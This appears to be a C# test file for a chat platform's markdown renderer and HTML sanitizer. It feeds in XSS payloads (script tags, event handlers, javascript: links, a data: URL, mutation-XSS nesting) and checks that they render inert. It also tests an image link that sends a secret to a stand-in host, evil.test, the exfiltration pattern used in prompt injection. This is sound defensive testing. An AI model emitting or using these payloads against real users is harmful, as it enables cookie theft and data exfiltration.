using Bunit;
using Platform.Tests.Infrastructure;
using Microsoft.Extensions.DependencyInjection;
using Platform.Web.Components.Shared;
using Platform.Web.Features.Chat.Components;

namespace Platform.Tests.Chat;

/// <summary>Hostile model output (prompt-injected documents can make a model write anything) renders inert.</summary>
public class MarkdownSafetyTests
{
    public static TheoryData<string> Corpus => new()
    {
        "<script>alert(document.cookie)</script>",
        "Hello <img src=x onerror=alert(1)> world",
        "[click me](javascript:alert(1))",
        "[click me](JaVaScRiPt:alert(1))",
        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "<svg onload=alert(1)><circle r=10 /></svg>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<div onclick=\"alert(1)\" style=\"background:url(https://evil.test/x)\">hi</div>",
        "<iframe src=\"https://evil.test\"></iframe>",
        "![secret](https://evil.test/collect?data=SECRET)",
        "![tracking pixel](https://evil.test/p.gif \"pixel\")",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "```html\n<script>alert(1)</script>\n```",
        "<form action=https://evil.test><input name=q></form>",
        "[ref]: javascript:alert(1)\n\n[link][ref]",
    };

    [Theory, MemberData(nameof(Corpus))]
    public void Hostile_markdown_renders_without_anything_executable_or_auto_loading(string markdown)
    {
        // Judge the DOM a browser would build, not the text: escaped "<script>" shown as text is fine.
        var html = ChatMarkdown.ToSafeHtml(markdown);
        var dom = new AngleSharp.Html.Parser.HtmlParser().ParseDocument("<body>" + html + "</body>");
        Assert.Empty(dom.Body!.QuerySelectorAll("script, img, svg, math, iframe, form, input, style, object, embed"));
        foreach (var element in dom.Body.QuerySelectorAll("*"))
        {
            Assert.DoesNotContain(element.Attributes, a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase) || a.Name == "style");
            var href = element.GetAttribute("href") ?? element.GetAttribute("src") ?? "";
            Assert.False(href.Length > 0 && !href.StartsWith("https://") && !href.StartsWith("http://") && !href.StartsWith("mailto:"),
                $"unsafe link {href}");
        }
    }

    public static TheoryData<string> OutsideTheAllowList => new()
    {
        "<svg><text>drawn</text></svg>",
        "<math><mi>x</mi></math>",
        "<details open><summary>more</summary>hidden</details>",
        "<iframe src=\"https://evil.test\"></iframe>",
        "<style>body{display:none}</style>",
        "<input type=\"checkbox\" checked>",
        "<div>block</div>",
        "<span class=\"x\">inline</span>",
        "<video src=\"https://evil.test/v.mp4\" autoplay></video>",
        "<img src=\"https://evil.test/p.gif\">",
        "<button>press</button>",
        "<font color=red>old</font>",
    };

    /// <summary>The sanitizer itself (it also guards mail bodies and previews, not only markdown whose raw HTML is
    /// escaped): anything outside the allow-list disappears, even tags a deny-list would let through.</summary>
    [Theory, MemberData(nameof(OutsideTheAllowList))]
    public void Tags_outside_the_allow_list_are_removed(string html)
    {
        var dom = new AngleSharp.Html.Parser.HtmlParser().ParseDocument("<body>" + HtmlSafety.Sanitize("<p>ok</p>" + html) + "</body>");
        var tags = dom.Body!.QuerySelectorAll("*").Select(e => e.LocalName).ToList();
        Assert.All(tags, t => Assert.Contains(t, HtmlSafety.AllowedTags));
        Assert.Contains("p", tags);
    }

    [Fact]
    public void Allowed_tags_keep_only_allowed_attributes_and_safe_links()
    {
        var html = HtmlSafety.Sanitize(
            "<p style=\"color:red\" onclick=\"x()\" class=\"c\" id=\"i\" data-x=\"1\">text</p>" +
            "<a href=\"https://ok.test/\" title=\"t\" onmouseover=\"x()\" target=\"_top\">ok</a>" +
            "<a href=\"javascript:alert(1)\">js</a><a href=\"data:text/html,x\">data</a><a href=\"vbscript:x\">vb</a>" +
            "<a href=\"mailto:a@b.test\">mail</a><a href=\"ftp://files.test/x\">ftp</a>" +
            "<table><tbody><tr><td align=\"right\" style=\"text-align:right\">1</td></tr></tbody></table>");
        var dom = new AngleSharp.Html.Parser.HtmlParser().ParseDocument("<body>" + html + "</body>");
        foreach (var element in dom.Body!.QuerySelectorAll("*"))
            Assert.All(element.Attributes, a => Assert.Contains(a.Name, new[] { "href", "title", "align", "start", "rel" }));
        var hrefs = dom.Body.QuerySelectorAll("a[href]").Select(a => a.GetAttribute("href")).ToList();
        Assert.Equal(["https://ok.test/", "mailto:a@b.test"], hrefs);
        Assert.Equal("right", dom.Body.QuerySelector("td")!.GetAttribute("align"));
    }

    [Fact]
    public void What_markdown_rendering_produces_survives_the_allow_list()
    {
        var html = ChatMarkdown.ToSafeHtml("""
            # Title
            ## Sub
            Some **bold**, *em*, ~~gone~~, `code` and a [link](https://example.test "tip") <https://auto.test>.

            > quoted

            3. three
            4. four

            - a
            - b

            | A | B |
            |--:|---|
            | 1 | 2 |

            ---
            See [1].
            """);
        var dom = new AngleSharp.Html.Parser.HtmlParser().ParseDocument("<body>" + html + "</body>");
        foreach (var tag in new[] { "h1", "h2", "strong", "em", "del", "code", "a", "blockquote", "ol", "ul", "li", "table", "thead", "tbody", "tr", "th", "td", "hr", "sup" })
            Assert.True(dom.Body!.QuerySelector(tag) is not null, $"<{tag}> was lost");
        Assert.Equal("3", dom.Body!.QuerySelector("ol")!.GetAttribute("start"));
        Assert.Equal("tip", dom.Body.QuerySelector("a[href='https://example.test']")!.GetAttribute("title"));
        Assert.NotNull(dom.Body.QuerySelector("a[href='https://auto.test']"));
    }

    [Fact]
    public void Images_become_links_that_load_nothing_and_code_stays_text()
    {
        var html = ChatMarkdown.ToSafeHtml("![secret](https://evil.test/collect?data=SECRET)");
        Assert.Contains("not loaded", html);
        Assert.Contains("href=\"https://evil.test/collect?data=SECRET\"", html);
        Assert.Contains("rel=\"noopener noreferrer nofollow\"", html);

        var segments = ChatMarkdown.Render("Before\n\n```js\nalert('<b>x</b>')\n```\n\nAfter [1]");
        Assert.Equal(3, segments.Count);
        Assert.Equal("js", segments[1].Language);
        Assert.Equal("alert('<b>x</b>')", segments[1].Code!.Trim());
        Assert.Contains("<sup>[1]</sup>", segments[2].Html);
    }

    [Fact]
    public async Task The_rendered_component_has_no_script_image_or_handler_in_its_dom()
    {
        await using var ctx = new MudTestContext();
        ctx.Renderer.SetRendererInfo(new Microsoft.AspNetCore.Components.RendererInfo("Server", true));
        var cut = ctx.Render<MarkdownView>(p => p.Add(x => x.Text, string.Join("\n\n", ((IEnumerable<object[]>)Corpus).Select(c => (string)c[0]))));
        // The copy buttons' own icons are ours; everything else came from the model.
        var fromModel = cut.FindAll(".chat-markdown *").Where(e => e.Closest(".chat-code-bar") is null).ToList();
        Assert.DoesNotContain(fromModel, e => e.LocalName is "script" or "img" or "svg" or "iframe" or "form" or "style");
        Assert.DoesNotContain(fromModel, e => (e.GetAttribute("href") ?? "").Contains("javascript", StringComparison.OrdinalIgnoreCase));
        Assert.DoesNotContain(fromModel, e => e.Attributes.Any(a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase)));
        Assert.NotEmpty(cut.FindAll("[data-testid=copy-code]"));
    }
}
